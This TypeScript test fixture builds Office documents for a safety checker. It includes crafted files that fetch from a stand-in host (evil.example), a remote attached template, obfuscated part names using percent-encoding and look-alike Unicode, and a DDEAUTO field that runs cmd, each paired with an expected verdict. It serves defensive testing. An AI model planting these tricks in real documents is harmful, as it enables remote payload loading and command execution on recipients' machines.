import { png, zipOf } from '../files.ts'
import type { Harmless, Variant } from './checked.ts'
import {
	type Link,
	linksOf,
	officeType,
	type PackagePart,
	packageEntries,
	packageFile,
} from './office-package.ts'
import { workbook } from './sheet-parts.ts'
import { fieldWritings, paragraph, run, said, wordDocument, wordPart, wordXml } from './word-parts.ts'

const site: Link = { type: 'hyperlink', target: 'https://evil.example/a.png', mode: 'External' }
const using = (xml: string, links: Link[] = [site]) => packageFile([wordDocument(paragraph(run(xml)), links)])
const sheet = (after: string, links: Link[] = [site]) => packageFile(workbook({ after, sheetLinks: links }))

/** Elements that fetch what a relationship names, with one that is meant for links to follow. */
const uses: [xml: string, reason: string][] = [
	['<w:drawing><a:blip r:link="rId1"/></w:drawing>', 'linked'],
	['<w:drawing><a:blip r:embed="rId1"/></w:drawing>', 'linked'],
	[
		'<w:drawing><a:blip q:link="rId1" xmlns:q="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:drawing>',
		'linked',
	],
	[
		'<w:drawing><a:blip q:link="rId1" xmlns:q="http://purl.oclc.org/ooxml/officeDocument/relationships"/></w:drawing>',
		'linked',
	],
	['<w:pict><v:shape><v:imagedata r:id="rId1"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:shape><v:imagedata r:href="rId1"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:shape><v:fill o:relid="rId1" type="frame"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:shape><v:stroke r:id="rId1"/></v:shape></w:pict>', 'linked'],
	['<a:videoFile r:link="rId1"/>', 'linked'],
	['<a:hlinkClick r:id="rId1"><a:snd r:embed="rId1"/></a:hlinkClick>', 'linked'],
	['<a:hlinkMouseOver r:id="rId1"/>', 'linked'],
	['<w:headerReference w:type="default" r:id="rId1"/>', 'linked'],
	['<w:sourceFileName r:id="rId1"/>', 'linked'],
	['<w14:contentPart r:id="rId1" xmlns:w14="urn:a"/>', 'linked'],
]
/** Elements that name an address themselves. */
const addresses: [xml: string, reason: string][] = [
	['<w:pict><v:shape><v:imagedata o:href="https://evil.example/a.png"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:shape><v:imagedata href="https://evil.example/a.png"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:shape><v:fill o:href="https://evil.example/a.png"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:shape><v:stroke o:althref="//evil.example/a.png"/></v:shape></w:pict>', 'linked'],
	['<w:pict><o:left o:src="https://evil.example/a.png"/></w:pict>', 'linked'],
	[
		'<sl:schema sl:uri="a" sl:manifestLocation="https://evil.example/a" xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"/>',
		'linked',
	],
	['<wp:docPr><a:hlinkClick r:id="" invalidUrl="file:///c:/a.exe"/></wp:docPr>', 'badLink'],
]
const pages: [xml: string, reason: string][] = [
	[
		'<webPublishItems><webPublishItem id="1" destinationFile="\\\\evil.example\\a.htm"/></webPublishItems>',
		'linked',
	],
	[
		'<webPublishObjects><webPublishObject id="1" destinationFile="https://e.example/"/></webPublishObjects>',
		'linked',
	],
	['<picture r:id="rId1"/>', 'linked'],
	['<legacyDrawing r:id="rId1"/>', 'linked'],
	['<drawing r:id="rId1"/>', 'linked'],
]

const template: Link = { type: 'attachedTemplate', target: 'https://evil.example/a.dotm', mode: 'External' }
const plain = packageEntries([wordDocument(said('Text'))]).filter(
	({ name }) => !name.startsWith('word/_rels/'),
)
const more = (name: string, content: string | Buffer = linksOf([template])) =>
	zipOf([...plain, { name, content }])
/** Names of parts that a reader could take for others. */
const names: [name: string, reason: string][] = [
	['word/%5Frels/document.xml.rels', 'damaged'],
	['word/%5frels/document.xml.rels', 'damaged'],
	['%77ord/_rels/document.xml.rels', 'damaged'],
	['word/_rels/document.xml%2Erels', 'damaged'],
	['word/_rels/document.xml.r%65ls', 'damaged'],
	['word/%255Frels/document.xml.rels', 'damaged'],
	['word/\uff3frels/document.xml.rels', 'linked'],
	['word/_rels/document.xml.\uff52els', 'linked'],
	['word/_rels /document.xml.rels', 'damaged'],
	['word/_re\u200bls/document.xml.rels', 'damaged'],
	['word/./_rels/document.xml.rels', 'damaged'],
	['word/_rels/document.xml.rels%', 'damaged'],
	['word\uff0f_rels\uff0fdocument.xml.rels', 'damaged'],
	['word/_rels/document.xml.rels/', 'damaged'],
	['word/_rels/\u2100/document.xml.rels', 'damaged'],
	['word/_rels/document.xml.rels\u2024', 'damaged'],
]

const dde = fieldWritings['in one piece']?.('DDEAUTO cmd "/c calc"') ?? ''
const asData = (type: string, use: string): [PackagePart, ...PackagePart[]] => [
	wordDocument(`${said('Text')}${use}`, [{ type: 'customXml', target: 'part1.xml' }]),
	{ name: 'word/part1.xml', content: wordXml('hdr', dde), type },
]

/** Documents in which a relationship or a name is used for what it is not. */
export const misusedDocuments: Variant[] = [
	...uses.map(([xml, reason]): Variant => [`a link used by ${xml}`, using(xml), reason]),
	...addresses.map(([xml, reason]): Variant => [`an address in ${xml}`, using(xml, []), reason]),
	...names.map(([name, reason]): Variant => [`a template in ${name}`, more(name), reason]),
	[
		'a header that is said to be data',
		packageFile(asData(`${officeType}wordprocessingml.header+xml`, '')),
		'fetches',
	],
	[
		'data that is used as a header',
		packageFile(asData('application/xml', '<w:sectPr><w:headerReference r:id="rId1"/></w:sectPr>')),
		'contentDiffers',
	],
	[
		'a picture that opens on a click',
		using('<wp:docPr><a:hlinkClick r:id="rId1"/></wp:docPr>', [
			{ type: 'image', target: 'media/image1.png' },
		]),
		'badLink',
	],
	[
		'a header by a way with letters as numbers',
		packageFile([
			wordDocument(said('Text'), [{ type: 'header', target: 'he%61der1.xml' }]),
			{
				name: 'word/header1.xml',
				content: wordXml('hdr', said('a')),
				type: `${officeType}wordprocessingml.header+xml`,
			},
		]),
		'damaged',
	],
]
/** Workbooks in which a relationship is used for what it is not. */
export const misusedWorkbooks: Variant[] = pages.map(
	([xml, reason]): Variant => [`${xml} in a sheet`, sheet(xml), reason],
)

const picture: Link = { type: 'image', target: 'media/image1.png' }
const withPicture = (xml: string) =>
	packageFile([
		wordDocument(paragraph(run(xml)), [picture, { ...site, target: 'https://www.un.org/' }]),
		{ name: 'word/media/image1.png', content: png() },
	])
/** Documents with links and pictures, as Word and LibreOffice write them. */
export const linkingDocuments: Harmless[] = [
	[
		'a picture with a link',
		withPicture(
			'<w:drawing><wp:docPr id="1" name="a"><a:hlinkClick r:id="rId2"/></wp:docPr><a:blip r:embed="rId1"/></w:drawing>',
		),
	],
	[
		'a picture of the old kind with its title',
		withPicture(
			'<w:pict><v:shape href="https://www.un.org/"><v:imagedata r:id="rId1" o:title="a"/></v:shape></w:pict>',
		),
	],
	[
		'a background',
		withPicture('<w:pict><v:shape><v:fill r:id="rId1" o:relid="rId1" recolor="t"/></v:shape></w:pict>'),
	],
	[
		'a link, a bookmark and a footnote',
		packageFile([
			wordDocument(
				`${paragraph(`<w:bookmarkStart w:id="0" w:name="a"/><w:hyperlink r:id="rId1" w:history="1">${run('<w:t>a</w:t>')}</w:hyperlink><w:bookmarkEnd w:id="0"/>`)}${paragraph(`<w:hyperlink w:anchor="a">${run('<w:footnoteReference w:id="1"/>')}</w:hyperlink>`)}`,
				[
					{ ...site, target: 'https://www.un.org/' },
					{ type: 'footnotes', target: 'footnotes.xml' },
				],
			),
			wordPart('footnotes', 'footnotes', `<w:footnote w:id="1">${said('Note')}</w:footnote>`),
		]),
	],
	[
		'a picture whose name has a blank and letters of another script',
		packageFile([
			wordDocument(paragraph(run('<w:drawing><a:blip r:embed="rId1"/></w:drawing>')), [
				{ type: 'image', target: 'media/%E5%9B%BE%20%E7%89%87.png' },
			]),
			{ name: 'word/media/\u56fe \u7247.png', content: png() },
		]),
	],
]
